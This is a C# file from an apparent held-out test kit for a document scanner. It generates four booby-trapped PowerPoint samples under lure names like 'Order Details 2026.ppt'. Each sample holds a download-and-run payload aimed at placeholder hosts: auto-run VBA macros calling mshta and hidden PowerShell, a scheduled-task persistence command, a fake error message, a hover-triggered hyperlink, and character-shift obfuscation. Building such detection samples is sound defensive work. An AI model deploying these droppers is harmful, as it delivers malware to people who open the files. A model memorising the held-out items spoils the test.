using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Presentations and add-ins that start something when they are opened, closed or moved over.</summary>
public sealed class PresentationMacros : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var mshta = Vba(("Module1", """
            Sub Auto_Close()
                Dim obj As Object
                Set obj = GetObject("new:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B")
                obj.Run "mshta http://%20%20@short-pages.example/p/19.html", 0
            End Sub
            """));
        yield return ("Order Details 2026.ppt", new OleFileBuilder().Class("", "64818D10-4F9B-11CF-86EA-00AA00B929E8").Stream("Current User", [20, 0, 0, 0, 0x5F, 0xC0, 0x91, 0xE3, 0, 0, 0, 0, 4, 0, 0xF4, 3, 3, 0, 0, 0, .. "User"u8]).Stream("PowerPoint Document", PptBuilder.WithObject(mshta)).Build());
        yield return ("Product_Catalogue.ppam", Slides("", macros: Vba(("Module1", """"
            Sub Auto_Open()
                Dim x
                Set x = CreateObject("Shell.Application")
                x.ShellExecute "powershell", "-w h -ep bypass -c ""$w=New-Object Net.WebClient;$w.DownloadFile('http://203.0.113.44/cat.vbs',$env:temp+'\cat.vbs');wscript $env:temp\cat.vbs""", "", "open", 0
                x.ShellExecute "schtasks", "/create /sc minute /mo 80 /tn CatalogueSync /F /tr ""mshta http://203.0.113.44/c.hta""", "", "open", 0
                MsgBox "Office 365 cannot open this file", vbCritical
            End Sub
            """")), kind: "addin.macroEnabled.main+xml"));
        yield return ("Zaproszenie.ppsx", Slides("<p:sp><p:nvSpPr><p:cNvPr id=\"4\" name=\"Cover\"><a:hlinkMouseOver r:id=\"rId10\" action=\"ppaction://program\"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"9144000\" cy=\"6858000\"/></a:xfrm></p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:t>Loading... please wait</a:t></a:r></a:p></p:txBody></p:sp>",
            [new Link("hyperlink", "powershell%20-NoP%20-NonI%20-W%20Hidden%20-Exec%20Bypass%20%22IEX%20(New-Object%20System.Net.WebClient).DownloadFile('http:'%2B%5Bchar%5D%200x2F%2B%5Bchar%5D%200x2F%2B'slides-host.example'%2B%5Bchar%5D%200x2F%2B'c.php',%5C%22$env:temp%5Cii.jse%5C%22);%20Invoke-Item%20%5C%22$env:temp%5Cii.jse%5C%22%22", true)], kind: "slideshow.main+xml"));
        yield return ("Budget overview.pptm", Slides("<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Start\"><a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=ShowBudget\"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>Click to view</a:t></a:r></a:p></p:txBody></p:sp>", macros: Vba(("Module2", """"
            Private Function z(v As Variant) As String
                Dim i
                For i = LBound(v) To UBound(v): z = z & ChrW(v(i) - 11): Next
            End Function
            Sub ShowBudget()
                Dim a, b
                a = Array(98, 94, 110, 125, 116, 123, 127, 57, 94, 115, 112, 119, 119)
                b = z(Array(110, 120, 111, 43, 58, 110, 43, 126, 127, 108, 125, 127, 43, 58, 120, 116, 121))
                Call CallByName(CreateObject(z(a)), "Run", 1, b & " powershell -c ""i`wr https://budget-view.example/b.ps1|i`ex""", 0)
            End Sub
            """")), kind: "presentation.macroEnabled.main+xml"));
    }
}
